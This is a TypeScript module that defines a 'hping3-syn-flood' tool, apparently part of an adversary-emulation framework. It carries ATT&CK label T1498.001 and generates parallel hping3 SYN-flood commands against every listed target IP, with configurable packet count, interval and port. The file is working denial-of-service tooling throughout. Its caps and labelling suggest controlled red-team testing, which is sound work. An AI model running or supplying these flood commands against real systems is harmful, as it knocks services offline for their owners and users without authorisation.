/** hping3 SYN flood from the attacker's own address (T1498.001 Direct Network Flood). */
import { z } from 'zod';
import { defineTool } from './tool.js';

export const hping3SynFlood = defineTool({
  name: 'hping3-syn-flood',
  kind: 'attack',
  category: 'flood',
  technique: 'T1498.001',
  description: 'hping3 -S at a fixed interval, a bounded packet count per target, real source address',
  params: z.strictObject({
    /** SYNs per target. */
    count: z.number().int().positive().max(200_000),
    /** Microseconds between packets (hping3 -i uN). */
    intervalMicros: z.number().int().min(100).max(1_000_000).default(1000),
    port: z.number().int().min(1).max(65535).default(80),
  }),
  targetPorts: (p) => [p.port],
  plan: (p, ctx) => ({
    mode: 'parallel',
    commands: ctx.targets.map((t) => ({
      argv: ['hping3', '-q', '-S', '-p', String(p.port), '-i', `u${p.intervalMicros}`, '-c', String(p.count), t.ip],
    })),
  }),
});
